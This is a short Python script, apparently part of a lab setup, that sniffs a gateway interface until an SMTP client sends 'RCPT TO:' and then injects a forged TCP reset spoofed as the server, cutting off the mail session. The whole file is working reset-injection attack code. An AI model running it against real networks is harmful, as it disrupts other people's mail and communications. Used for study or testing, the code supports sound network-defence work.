"""Forges one reset in the server's name as soon as a client says RCPT, run as a program on the gateway.

forger.py INTERFACE TTL IPID
"""

import sys

from scapy.layers.inet import IP, TCP
from scapy.packet import Packet
from scapy.sendrecv import send, sniff


def says_rcpt(packet: Packet) -> bool:
    return TCP in packet and bytes(packet[TCP].payload).upper().startswith(b"RCPT TO:")


def forge(packet: Packet, ttl: int, ipid: int) -> Packet:
    """The reset that makes the client of *packet* give up: the sequence number that it expects next."""
    ip, tcp = packet[IP], packet[TCP]
    return IP(src=ip.dst, dst=ip.src, ttl=ttl, id=ipid) / TCP(
        sport=tcp.dport, dport=tcp.sport, flags="R", seq=tcp.ack, window=0
    )


def main() -> None:
    interface, ttl, ipid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    seen = sniff(
        iface=interface,
        lfilter=says_rcpt,
        stop_filter=says_rcpt,
        store=True,
        started_callback=lambda: print("ready", flush=True),  # noqa: T201 - the lab waits for this word
    )
    send(forge(seen[0], ttl, ipid), iface=interface, verbose=False)


if __name__ == "__main__":
    main()
